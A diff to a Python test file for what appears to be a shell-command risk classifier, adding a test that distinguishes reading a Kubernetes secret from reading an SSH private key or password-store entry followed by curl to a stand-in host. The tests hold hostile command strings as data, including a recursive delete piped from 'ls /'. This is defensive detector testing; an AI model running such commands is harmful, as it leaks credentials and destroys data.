@@ -53,3 +53,9 @@ def test_an_unknown_start_with_a_slash_may_be_the_root():
 
 def test_deleting_what_a_list_of_other_places_names_is_outside():
     assert "delete.outside" in rules("ls / | xargs rm")
+
+
+def test_a_secret_that_only_its_own_service_tells_is_not_sent_anywhere():
+    assert "exfiltration" not in rules("kubectl get secret x -o yaml")
+    assert "exfiltration" in rules("cat ~/.ssh/id_rsa; curl http://x.example")
+    assert "exfiltration" in rules("pass show a > t; curl http://x.example")
